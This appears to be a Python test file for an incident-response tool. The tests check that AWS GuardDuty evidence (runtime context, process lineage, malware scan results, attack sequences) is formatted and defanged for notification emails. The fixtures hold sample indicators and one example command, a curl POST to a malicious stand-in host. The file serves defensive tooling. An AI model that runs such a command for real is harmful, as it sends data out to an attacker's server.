"""The evidence section: Runtime Monitoring process and context, malware scans, attack sequences."""

from __future__ import annotations

from responder.domain.catalog import message
from responder.domain.cleaning import shown
from responder.domain.evidence import MAX_FILES_PER_THREAT, evidence_facts
from responder.domain.facts import Fact
from responder.domain.service_models import Service


def _facts(service: dict[str, object]) -> list[Fact]:
    return list(evidence_facts(Service.model_validate(service)))


def _shown(fact: Fact) -> str:
    """A fact as the email shows it (the one cleaning path, with the fact's own flags)."""
    return shown(fact.value, 1000, paths=fact.path, indicator=fact.ioc, name=fact.name)


CONTEXT = {
    "socketPath": "/var/run/docker.sock",
    "runcBinaryPath": "/usr/sbin/runc",
    "ldPreloadValue": "/usr/lib/libmalicious.so",
    "moduleFilePath": "/lib/modules/5.15/kernel/ipt_MAL.so",
    "moduleSha256": "3f79bb7b435b05321651daef713b4ea0",
    "shellHistoryFilePath": "/root/.bash_history",
    "threatFilePath": "/srv/malicious_file.bin",
    "scriptPath": "/usr/local/bin/malicious_script.sh",
    "relatedFilePaths": ["/etc/cron.d/x.sh", "/srv/eicar.com"],
    "modifyingProcess": {"name": "bash", "pid": 2451, "user": "root"},
    "targetProcess": {"name": "sshd", "pid": 3124, "executablePath": "/usr/sbin/sshd"},
    "ianaProtocolNumber": 6,
    "memoryRegions": ["heap", "stack"],
    "flags": ["ro"],
    "toolName": "SSH Backdoor",
    "serviceName": "firewalld",
    "commandLineExample": "/usr/bin/curl -X POST http://malicious.example.com",
}


def test_every_runtime_context_field_has_its_own_label_and_paths_stay_readable():
    # Given a Runtime Monitoring context with the documented fields
    facts = _facts({"runtimeDetails": {"context": CONTEXT}})
    by_label = {f.label: f for f in facts}
    # Then each field is a row of its own (a catalogue label), typed values included ...
    assert by_label["f.socket_path"].value == "/var/run/docker.sock"
    assert by_label["f.ip_protocol"].value == "6 (TCP)"
    assert by_label["f.memory_regions"].value == "heap, stack"
    assert by_label["f.mount_flags"].value == "ro"
    assert by_label["f.modifying_process"].value == "bash (root; pid 2451)"
    assert by_label["f.target_process"].value == "sshd (pid 3124) /usr/sbin/sshd"
    assert by_label["f.system_service"].value == "firewalld"
    assert all(message(f.label) for f in facts)
    # ... every path reads as written (no file name defanged), and the URL in the command line is defanged
    for label in ("f.socket_path", "f.ld_preload", "f.module_file", "f.threat_file", "f.script", "f.related_files"):
        assert "[.]" not in _shown(by_label[label]), label
    assert "[.]" not in _shown(by_label["f.target_process"])
    assert _shown(by_label["f.command_line"]) == "/usr/bin/curl -X POST hxxp[://]malicious[.]example[.]com"
    assert not by_label["f.command_line"].path


def test_lineage_entries_show_what_they_have_never_a_placeholder():
    # Given parent processes with only a pid, only a parent uuid, or a full entry
    facts = _facts(
        {
            "runtimeDetails": {
                "process": {
                    "name": "sh",
                    "pid": 7,
                    "lineage": [
                        {"pid": 123},
                        {"parentUuid": "f7c2b111-4355-45f2-8462-3e418af0a1cc"},
                        {"name": "node", "pid": 1, "userId": 0, "euid": 1000, "executablePath": "/usr/bin/node"},
                    ],
                }
            }
        }
    )
    lineage = next(f for f in facts if f.label == "f.lineage").value
    # Then each entry shows its facts and none shows "?"; the keys are Unix's (pid, uid, euid)
    # or GuardDuty's own field names (parentUuid), never an English phrase a Japanese email
    # would have to carry
    assert lineage == (
        "(pid 123), parentUuid f7c2b111-4355-45f2-8462-3e418af0a1cc, node (pid 1; uid 0; euid 1000) /usr/bin/node"
    )
    assert "?" not in lineage


def test_process_lines_carry_no_english_phrase():
    # Given a lineage entry with only its own uuid and one with a namespace pid
    facts = _facts(
        {
            "runtimeDetails": {
                "process": {
                    "name": "sh",
                    "lineage": [
                        {"uuid": "0b1c2d3e-4355-45f2-8462-3e418af0a1cc", "pid": 9},
                        {"name": "runc", "pid": 40, "namespacePid": 1},
                    ],
                }
            }
        }
    )
    lineage = next(f for f in facts if f.label == "f.lineage").value
    # Then they show GuardDuty's field names, not "uuid x" or "ns pid 1"
    assert lineage == "uuid 0b1c2d3e-4355-45f2-8462-3e418af0a1cc (pid 9), runc (pid 40; namespacePid 1)"
    assert "ns pid" not in lineage and "parent uuid" not in lineage


def _ebs_scan(scan_type: str, files: int, shortened: bool = False) -> dict[str, object]:
    paths = [{"filePath": f"tmp/eicar-{n}.com", "hash": f"{n:064x}"} for n in range(files)]
    return {
        "ebsVolumeScanDetails": {
            "scanType": scan_type,
            "triggerFindingId": "aebf7267",
            "scanStartedAt": 1639010703.0,
            "scanDetections": {
                "scannedItemCount": {"files": 65226, "volumes": 1, "totalGb": 1},
                "threatDetectedByName": {
                    "shortened": shortened,
                    "threatNames": [
                        {"name": "Trojan.GenericKD", "severity": "HIGH", "itemCount": files, "filePaths": paths}
                    ],
                },
            },
        }
    }


def test_an_ebs_scan_shows_each_threat_with_its_files_and_hashes_bounded():
    # Given an on-demand scan that found one threat in more files than an email lists
    facts = _facts(_ebs_scan("ON_DEMAND", MAX_FILES_PER_THREAT + 3, shortened=True))
    rows = [(f.label, f.value) for f in facts]
    # Then the threat reads as a name, its first files show with their SHA-256, the rest is counted
    threat = next(f for f in facts if f.label == "f.threat")
    assert _shown(threat) == "Trojan.GenericKD (HIGH, 8)"
    files = [value for label, value in rows if label == "f.threat_file_hash"]
    assert files[0] == f"tmp/eicar-0.com {0:064x}" and len(files) == MAX_FILES_PER_THREAT
    assert ("f.more_files", "3") in rows
    assert "[.]" not in _shown(next(f for f in facts if f.label == "f.threat_file_hash"))
    assert ("f.threats_shortened", "v.shortened") in rows
    assert ("f.scan_started", "2021-12-09T00:45:03Z") in rows
    # ... and an on-demand scan is not said to be triggered by the finding it names
    assert ("f.related_finding", "aebf7267") in rows and "f.scan_trigger" not in dict(rows)
    assert ("f.scan_trigger", "aebf7267") in [(f.label, f.value) for f in _facts(_ebs_scan("GUARDDUTY_INITIATED", 1))]


def test_malware_protection_threats_show_engine_count_hash_and_items_without_question_marks():
    # Given an S3 object scan and a Backup scan (threats without a severity)
    facts = _facts(
        {
            "malwareScanDetails": {
                "scanType": "BACKUP_INITIATED",
                "scanCategory": "INCREMENTAL_SCAN",
                "threats": [
                    {
                        "name": "Linux.Trojan.Mirai",
                        "source": "Amazon",
                        "count": 1,
                        "hash": "4c78",
                        "itemDetails": [
                            {
                                "itemPath": "/var/www/html/cache.php",
                                "hash": "4c78",
                                "additionalInfo": {"deviceName": "/dev/xvdf"},
                            }
                        ],
                    },
                    {"name": "EICAR", "itemPaths": [{"nestedItemPath": "archive/inner/eicar.com", "hash": "ab"}]},
                ],
            }
        }
    )
    rows = [(f.label, f.value) for f in facts]
    threats = [(f.label, _shown(f)) for f in facts if f.label in ("f.threat_source", "f.threat_name")]
    # Then each threat shows its engine and count (nothing made up: a name alone is labelled as
    # a name, not "engine, count"), its hash and its files
    assert threats == [("f.threat_source", "Linux.Trojan.Mirai (Amazon, 1)"), ("f.threat_name", "EICAR")]
    assert ("f.threat_hash", "4c78") in rows
    items = [f for f in facts if f.label == "f.threat_file_hash"]
    assert [_shown(f) for f in items] == ["(/dev/xvdf) /var/www/html/cache.php 4c78", "archive/inner/eicar.com ab"]
    assert not any("?" in value for _label, value in rows)


def test_an_attack_sequence_shows_actors_endpoints_and_signals_with_their_resources():
    facts = _facts(
        {
            "detection": {
                "sequence": {
                    "actors": [
                        {
                            "id": "a1",
                            "user": {"name": "web-role", "type": "AssumedRole"},
                            "session": {"mfaStatus": "DISABLED"},
                        },
                        {"id": "a2", "process": {"name": "xmrig", "path": "/opt/.cache/xmrig"}},
                    ],
                    "endpoints": [
                        {
                            "id": "e1",
                            "ip": "203.0.113.50",
                            "domain": "pool.example.net",
                            "port": 3333,
                            "connection": {"direction": "OUTBOUND"},
                        }
                    ],
                    "signals": [
                        {
                            "name": "CryptoCurrency:EC2/BitcoinTool.B!DNS",
                            "type": "FINDING",
                            "severity": 8.0,
                            "count": 412,
                            "resourceUids": ["arn:aws:ec2:us-west-2:1:instance/i-0b2c4d6e8f0a1b3c5"],
                        }
                    ],
                    "sequenceIndicators": [{"key": "CRYPTOMINING_DOMAIN", "values": ["pool.example.net"]}],
                }
            }
        }
    )
    rows = {f.label: _shown(f) for f in facts}
    assert rows["f.actor_user"] == "web-role (AssumedRole; MFA DISABLED)"
    assert rows["f.actor_process"] == "xmrig /opt/.cache/xmrig"
    # ... an endpoint as address:port (no English word), the IP first when there is one
    assert rows["f.endpoints"] == "203.0.113[.]50:3333 pool[.]example[.]net (OUTBOUND)"
    assert (
        rows["f.sequence_signal"] == "CryptoCurrency:EC2/BitcoinTool.B!DNS (FINDING; 8.0; x412) -> i-0b2c4d6e8f0a1b3c5"
    )
    assert rows["f.sequence_indicators"] == "CRYPTOMINING_DOMAIN = pool[.]example[.]net"


def test_the_role_gloss_does_not_say_who_initiated_a_connection():
    # GuardDuty reports TARGET for outbound findings (an instance calling a botnet host): the
    # gloss must not say the resource "was acted upon"
    assert "acted upon" not in message("v.role.TARGET")
    assert "TARGET" in message("v.role.TARGET")


def test_only_ip_and_domain_indicators_are_indicators():
    # Given an attack sequence's indicators: API names, a file, an IP, domains and an IPv6 address
    facts = _facts(
        {
            "detection": {
                "sequence": {
                    "sequenceIndicators": [
                        {"key": "HIGH_RISK_API", "values": ["s3:GetObject", "s3:ListBucket"]},
                        {"key": "HIGH_RISK_API", "values": ["secretsmanager:GetSecretValue"]},
                        {"key": "MALICIOUS_FILE", "values": ["/etc/cron.hourly/.sync"]},
                        {"key": "CRYPTOMINING_IP", "values": ["203.0.113.50", "2001:db8::1"]},
                        {"key": "DOMAIN", "values": ["pool.example.net"]},
                        {"key": "ATTACK_TECHNIQUE", "values": ["T1496.001"]},
                    ]
                }
            }
        }
    )
    rows = [(f.ioc, _shown(f)) for f in facts if f.label == "f.sequence_indicators"]
    # Then only the IP and domain values are indicators (every dot, an IPv6 colon defanged);
    # API names, paths and techniques read as written
    assert rows == [
        (False, "HIGH_RISK_API = s3:GetObject, s3:ListBucket"),
        (False, "HIGH_RISK_API = secretsmanager:GetSecretValue"),
        (False, "MALICIOUS_FILE = /etc/cron.hourly/.sync"),
        (True, "CRYPTOMINING_IP = 203.0.113[.]50, 2001:db8:[:]1"),
        (True, "DOMAIN = pool[.]example[.]net"),
        (False, "ATTACK_TECHNIQUE = T1496.001"),
    ]


def test_each_backup_file_row_names_the_source_it_came_from():
    # Given a Backup scan whose threats were found in a bucket and in two snapshots
    facts = _facts(
        {
            "malwareScanDetails": {
                "scanType": "BACKUP_INITIATED",
                "threats": [
                    {
                        "name": "X97M.Downloader.Generic",
                        "itemDetails": [
                            {
                                "resourceArn": "arn:aws:s3:::finance-reports-111122223333",
                                "itemPath": "exports/2026/q3/macro-report.xlsm",
                                "hash": "c9df",
                                "additionalInfo": {"versionId": "Qa2Ws4"},
                            }
                        ],
                    },
                    {
                        "name": "Linux.Miner.XMRig",
                        "itemDetails": [
                            {
                                "resourceArn": "arn:aws:ec2:us-west-2::snapshot/snap-0f2a4b6c8d0e3f5a7",
                                "itemPath": "/data/cache/.xm/xmrig",
                                "additionalInfo": {"deviceName": "/dev/sdf"},
                            },
                            {"resourceArn": "arn:aws:ec2:us-west-2:1:volume/vol-0abc" + "x" * 300, "itemPath": "/a"},
                        ],
                    },
                ],
            }
        }
    )
    files = [_shown(f) for f in facts if f.label == "f.threat_file_hash"]
    # Then each row starts with its source's name (bucket, snapshot or volume id), bounded
    assert files[0] == "(finance-reports-111122223333; Qa2Ws4) exports/2026/q3/macro-report.xlsm c9df"
    assert files[1] == "(snap-0f2a4b6c8d0e3f5a7; /dev/sdf) /data/cache/.xm/xmrig"
    assert files[2].startswith("(vol-0abcxxx") and len(files[2]) < 100, files[2]
